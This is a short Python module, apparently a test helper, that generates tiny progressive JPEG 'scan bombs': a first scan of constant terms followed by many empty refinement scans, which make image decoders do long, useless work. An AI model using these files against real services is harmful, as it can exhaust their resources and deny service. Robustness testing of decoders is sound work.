"""Progressive JPEGs of next to no bytes that take a decoder long: each scan visits every block, and says nothing."""

import struct


def scan_bomb(width: int, height: int, scans: int, between: bytes = b"") -> bytes:
    """A grey progressive JPEG with one scan of constant terms and ``scans`` empty refinements.

    Args:
        width: In pixels.
        height: In pixels.
        scans: How many scans follow the first.
        between: Bytes written before each scan, such as markers without a segment.
    """
    blocks = -(-width // 8) * -(-height // 8)
    # Huffman tables of one code, "0": no difference in the constant term; a run of empty blocks, its length in 14 bits.
    head = b"\xff\xd8" + b"".join(
        [
            _segment(0xDB, b"\0" + bytes([1] * 64)),
            _segment(0xC2, struct.pack(">BHHBBBB", 8, height, width, 1, 1, 0x11, 0)),
            _segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00"),
            _segment(0xC4, b"\x10" + bytes([1] + [0] * 15) + b"\xe0"),
            _segment(0xDA, bytes([1, 1, 0, 0, 0, 0])) + _packed("0" * blocks),
        ]
    )
    bits, left = "", blocks
    while left > 0:
        run = max(1 << 14, min(left, (1 << 15) - 1))
        bits += f"0{run - (1 << 14):014b}"
        left -= run
    return head + (between + _segment(0xDA, bytes([1, 1, 0, 1, 63, 0])) + _packed(bits)) * scans + b"\xff\xd9"


def _segment(marker: int, content: bytes) -> bytes:
    return struct.pack(">BBH", 0xFF, marker, len(content) + 2) + content


def _packed(bits: str) -> bytes:
    bits += "1" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8, "big").replace(b"\xff", b"\xff\x00")
